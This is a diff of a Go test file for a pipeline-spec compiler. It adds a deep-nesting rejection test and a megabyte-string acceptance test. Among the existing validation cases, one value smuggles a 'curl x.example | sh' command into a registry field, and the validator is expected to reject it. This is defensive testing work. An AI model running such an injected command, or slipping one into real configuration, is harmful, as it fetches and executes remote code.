@@ -71,6 +71,7 @@ environments: {
 		{"registry with shell text", base + "registry: \"ghcr.io/acme/ml; curl x.example | sh\"\n", "pipeline.cue:9:", "registry: invalid value"},
 		{"branch pattern with a space", base + "triggers: push: branches: [\"main dev\"]\n", "pipeline.cue:9:", "invalid value"},
 		{"branch pattern with a newline", base + "triggers: pull_request: branches: [\"main\\nx\"]\n", "pipeline.cue:9:", "invalid value"},
+		{"deep nesting", base + "_x: " + strings.Repeat("{a: ", 20000) + "1" + strings.Repeat("}", 20000) + "\n", "pipeline.cue:9:", "exceeds maximum nesting depth"},
 		{"bad gate", strings.Replace(base, `">= 0.9"`, `"at least 0.9"`, 1), "pipeline.cue:7:", "gates.accuracy"},
 		{"no_regression without production", strings.Replace(base, `gates: accuracy: ">= 0.9"`, `no_regression: ["accuracy"]`, 1), "pipeline.cue:7:", "no environment deploys model m"},
 		{"unknown after", base + `steps: s: {image: "alpine", run: "true", after: ["models.x"]}` + "\n", "pipeline.cue:9:", `unknown model "x"`},
@@ -313,6 +314,14 @@ func TestFileNameWithLineBreak(t *testing.T) {
 	dir := writeSpec(t, map[string]string{"a\nb.cue": base})
 	if _, err := Compile(dir); err == nil || !strings.Contains(err.Error(), `spec file name "a\nb.cue" holds a line break`) {
 		t.Fatalf("compile: %v", err)
+	}
+}
+
+// A 1 MB script compiles: big values are data, not a limit.
+func TestMegabyteString(t *testing.T) {
+	spec := strings.Replace(base, `python eval.py`, "python eval.py # "+strings.Repeat("x", 1<<20), 1)
+	if _, err := Compile(writeSpec(t, map[string]string{"pipeline.cue": spec})); err != nil {
+		t.Fatal(err)
 	}
 }
 
